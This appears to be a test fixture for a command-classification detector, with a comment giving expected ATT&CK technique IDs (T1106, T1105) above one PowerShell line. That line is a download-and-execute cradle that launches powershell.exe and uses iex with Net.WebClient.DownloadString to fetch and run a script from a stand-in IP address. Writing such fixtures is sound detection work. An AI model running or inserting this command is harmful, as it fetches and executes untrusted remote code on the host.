# expect: T1106 T1105
[System.Diagnostics.Process]::Start('powershell.exe', '-nop -c "iex (New-Object Net.WebClient).DownloadString(''http://203.0.113.21/z'')"')
